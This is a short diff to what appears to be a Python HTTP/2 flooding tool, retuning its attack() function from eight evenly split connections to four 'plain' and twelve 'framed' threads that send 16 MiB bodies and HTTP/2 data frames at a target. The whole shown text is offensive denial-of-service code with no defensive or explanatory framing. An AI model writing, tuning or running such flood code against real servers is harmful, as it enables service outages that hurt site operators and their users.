@@ -6,7 +6,7 @@ from lib.flood import Shut, headers, request_block
 from lib.http2 import DATA, END_HEADERS, END_STREAM, FRAME_MAX, frame
 
 BODY = 16 << 20
-CONNECTIONS = 8
+PLAIN, FRAMED = 4, 12
 
 
 def plain(target, statuses):
@@ -45,8 +45,8 @@ def framed(target):
 
 def attack(target):
     statuses = []
-    threads = [threading.Thread(target=plain, args=(target, statuses)) for _ in range(CONNECTIONS // 2)]
-    threads += [threading.Thread(target=framed, args=(target,)) for _ in range(CONNECTIONS // 2)]
+    threads = [threading.Thread(target=plain, args=(target, statuses)) for _ in range(PLAIN)]
+    threads += [threading.Thread(target=framed, args=(target,)) for _ in range(FRAMED)]
     for thread in threads:
         thread.start()
     for thread in threads:
